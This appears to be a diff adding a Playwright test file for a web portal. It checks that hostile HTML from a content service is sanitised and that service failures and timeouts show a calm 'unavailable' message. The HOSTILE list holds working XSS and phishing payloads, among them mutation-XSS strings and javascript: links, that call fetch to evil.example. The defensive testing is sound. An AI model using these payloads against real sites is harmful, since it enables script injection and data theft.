@@ -1,0 +1,201 @@
+import { expect, test, type Page, type Route } from '@playwright/test';
+import { startPortal, type TestPortal } from '../portal/start-portal';
+
+let portal: TestPortal;
+test.beforeAll(async () => {
+  portal = await startPortal();
+});
+test.afterAll(async () => portal.stop());
+
+const UNAVAILABLE = {
+  'en-US': 'The service is currently unavailable. Please try again later.',
+  'de-DE': 'Der Dienst ist zurzeit nicht verfügbar. Bitte versuchen Sie es später erneut.',
+} as const;
+
+const CONTENT = /\/app\/(?:cs5|npx\/public\/contentsvcs)\//;
+const ADDRESS = '/app/default/systemRequirements';
+
+const answerWith = (page: Page, answer: (route: Route) => Promise<void>): Promise<unknown> =>
+  page.route(CONTENT, answer);
+
+const json = (body: unknown) => (route: Route) =>
+  route.fulfill({ contentType: 'application/json', body: JSON.stringify(body) });
+
+/** Everything that counts as having run: dialogs, requests to elsewhere, marks, reports of the security policy. */
+const watchForAttacks = async (page: Page): Promise<() => Promise<readonly string[]>> => {
+  const seen: string[] = [];
+  page.on('dialog', (dialog) => {
+    seen.push(`dialog ${dialog.message()}`);
+    void dialog.dismiss();
+  });
+  page.on('request', (request) => {
+    if (!request.url().startsWith(portal.origin) && !request.url().startsWith('data:'))
+      seen.push(`request ${request.url()}`);
+  });
+  page.on('pageerror', (error) => seen.push(`thrown ${error.message}`));
+  await page.addInitScript(() => {
+    document.addEventListener('securitypolicyviolation', (event) => {
+      const list = ((window as { violations?: string[] }).violations ??= []);
+      list.push(`${event.violatedDirective} ${event.blockedURI} ${event.sample}`);
+    });
+  });
+  return async () => [
+    ...seen,
+    ...(await page.evaluate(() => {
+      const { violations = [], ran } = window as { violations?: string[]; ran?: unknown };
+      return ran === undefined ? violations : [...violations, 'a script ran'];
+    })),
+  ];
+};
+
+const RUN = 'window.ran=1;alert(1);fetch(`https://evil.example`)';
+
+/** What hostile content could hold, each beside a paragraph that has to be shown. */
+const HOSTILE: readonly string[] = [
+  `<script>${RUN}</script>`,
+  `<script src="https://evil.example/x.js"></script>`,
+  `<img src=x onerror="${RUN}">`,
+  `<img src="https://evil.example/pixel.gif">`,
+  `<p onclick="${RUN}" onmouseover="${RUN}" tabindex="0" autofocus onfocus="${RUN}">handler</p>`,
+  `<form action="https://evil.example"><label>SHOWN password</label><input name="p"><button>SHOWN</button></form>`,
+  `<button formaction="javascript:${RUN}">SHOWN</button><textarea>SHOWN</textarea><select><option>SHOWN</option></select>`,
+  `<iframe src="https://evil.example"></iframe><iframe srcdoc="<script>${RUN}</script>">SHOWN</iframe>`,
+  `<style>body{background:url(https://evil.example)} main{display:none}</style>`,
+  `<link rel="stylesheet" href="https://evil.example/x.css"><meta http-equiv="refresh" content="0;url=https://evil.example">`,
+  `<base href="https://evil.example/">`,
+  `<svg onload="${RUN}"><script>${RUN}</script><text>SHOWN</text><a xlink:href="javascript:${RUN}"><rect width="9" height="9"/></a></svg>`,
+  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
+  `<a href="javascript:${RUN}">link</a><a href=" java&#10;script:${RUN}">link</a><a href="data:text/html,<script>${RUN}</script>">link</a>`,
+  `<a href="//evil.example">link</a><a href="/\\evil.example">link</a><a href="http://evil.example">link</a>`,
+  `<object data="https://evil.example">SHOWN</object><embed src="https://evil.example"><video src=x onerror="${RUN}">SHOWN</video>`,
+  `<details open ontoggle="${RUN}">open</details><marquee onstart="${RUN}">moving</marquee>`,
+  `<template><script>${RUN}</script>SHOWN</template><noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`,
+  `<div id="portal-boot" style="position:fixed;inset:0" class="portal-page" data-part="x">cover</div>`,
+  `<dialog open>SHOWN</dialog><meter value="1">SHOWN</meter><progress>SHOWN</progress>`,
+];
+
+test('SEC-R9 D-10 INF-2 nothing of hostile content runs, asks or shows; its words and safe links do', async ({
+  page,
+}) => {
+  test.setTimeout(120_000);
+  const attacks = await watchForAttacks(page);
+  let html = '';
+  await answerWith(page, (route) => json({ page: { text_s: html } })(route));
+  for (const hostile of HOSTILE) {
+    html = `<p>Before</p>${hostile}<p>After <a href="/app/default/termsOfUse" target="_top" rel="opener">terms</a></p>`;
+    await page.goto(portal.origin + ADDRESS);
+    const main = page.getByRole('main');
+    await expect(main, hostile).toContainText('Before');
+    const left = await main.evaluate((element) => ({
+      elements: element.querySelectorAll(
+        'script, form, input, button, select, textarea, iframe, object, embed, style, link, meta, base, img, video, math, dialog, template',
+      ).length,
+      // The icons of the page itself bear nothing but their drawing.
+      drawings: element.querySelectorAll('svg script, svg a, svg text, svg[onload]').length,
+      handlers: [...element.querySelectorAll('*')].filter((each) =>
+        each.getAttributeNames().some((name) => name.startsWith('on') || name === 'style'),
+      ).length,
+      addresses: [...element.querySelectorAll('a')].map((link) => link.getAttribute('href')),
+      rels: [...element.querySelectorAll('a')].every((link) => link.rel === 'noopener' && link.target === ''),
+      ids: document.querySelectorAll('#portal-boot').length,
+    }));
+    expect({ ...left, addresses: left.addresses.filter((each) => each !== null) }, hostile).toEqual({
+      elements: 0,
+      drawings: 0,
+      handlers: 0,
+      addresses: /math|noscript/.test(hostile) ? expect.anything() : ['/app/default/termsOfUse'],
+      rels: true,
+      ids: 1,
+    });
+    await expect(main, hostile).not.toContainText('SHOWN');
+    await expect(page, hostile).toHaveURL(portal.origin + ADDRESS);
+    expect(await attacks(), hostile).toEqual([]);
+  }
+});
+
+/** Answers of which nothing can be shown. */
+const FAILURES: readonly (readonly [string, (route: Route) => Promise<void>])[] = [
+  ['is away', (route) => route.abort('connectionrefused')],
+  ['answers 500', (route) => route.fulfill({ status: 500, body: 'stack trace at /srv/app.js' })],
+  ['answers 404', (route) => route.fulfill({ status: 404, body: '{}' })],
+  ['answers nothing', (route) => route.fulfill({ status: 200, body: '' })],
+  [
+    'answers half of its JSON',
+    (route) => route.fulfill({ contentType: 'application/json', body: '{"page":{"te' }),
+  ],
+  [
+    'answers a page of HTML',
+    (route) => route.fulfill({ contentType: 'text/html', body: '<h1>Proxy error</h1>' }),
+  ],
+  ['answers an empty text', json({ page: { text_s: '' } })],
+  ['answers another shape', json({ page: [{ text_s: 1 }] })],
+  ['answers a list', json([])],
+  [
+    'answers only what must not be shown',
+    json({ page: { text_s: '<script>window.ran=1</script><form>x</form>' } }),
+  ],
+  [
+    'redirects to another place',
+    (route) => route.fulfill({ status: 302, headers: { location: '/nowhere' } }),
+  ],
+];
+
+test('INF-2 INF-4 however the content service fails, the page says the same calm words and can try again', async ({
+  page,
+}) => {
+  test.setTimeout(120_000);
+  const attacks = await watchForAttacks(page);
+  for (const [what, failure] of FAILURES) {
+    await answerWith(page, failure);
+    await page.goto(portal.origin + ADDRESS);
+    const main = page.getByRole('main');
+    await expect(main.getByRole('status'), what).toHaveText(UNAVAILABLE['en-US']);
+    await expect(main, what).not.toContainText(/stack trace|Proxy error|undefined/);
+    expect(
+      (await attacks()).filter((each) => !each.startsWith('request')),
+      what,
+    ).toEqual([]);
+    await page.unroute(CONTENT);
+  }
+  await page.getByRole('button', { name: 'Try again' }).click();
+  await expect(page.getByRole('heading', { name: 'Browsers', exact: true })).toBeVisible();
+});
+
+test('INF-2 INF-8 in German too, on every page with content; the terms stand without the service', async ({
+  page,
+}) => {
+  await page.context().addCookies([{ name: 'displayLanguage', value: 'de_DE', url: portal.origin }]);
+  await answerWith(page, (route) => route.abort());
+  for (const name of ['systemRequirements', 'cookiePolicy', 'termsOfUse']) {
+    await page.goto(`${portal.origin}/app/default/${name}`);
+    await expect(page.getByRole('main').getByRole('status')).toHaveText(UNAVAILABLE['de-DE']);
+  }
+  await expect(page.getByRole('heading', { name: 'Ihr Vertrag' })).toBeVisible();
+});
+
+test('INF-9 CST a service that stays silent is given up after 30 s, and an answer after that changes nothing', async ({
+  page,
+}) => {
+  await page.clock.install();
+  let answer: () => void = () => undefined;
+  await answerWith(
+    page,
+    (route) =>
+      new Promise<void>((resolve) => {
+        answer = () => resolve(json({ page: { text_s: '<p>Too late</p>' } })(route).catch(() => undefined));
+      }),
+  );
+  const asked = page.waitForRequest(CONTENT);
+  await page.goto(portal.origin + ADDRESS);
+  await page.clock.runFor(5_000);
+  await asked;
+  const main = page.getByRole('main');
+  await expect(main).toContainText('Please wait');
+  await page.clock.runFor(24_000);
+  await expect(main).toContainText('Please wait');
+  await page.clock.runFor(6_000);
+  await expect(main.getByRole('status')).toHaveText(UNAVAILABLE['en-US']);
+  answer();
+  await page.clock.runFor(1_000);
+  await expect(main).not.toContainText('Too late');
+});
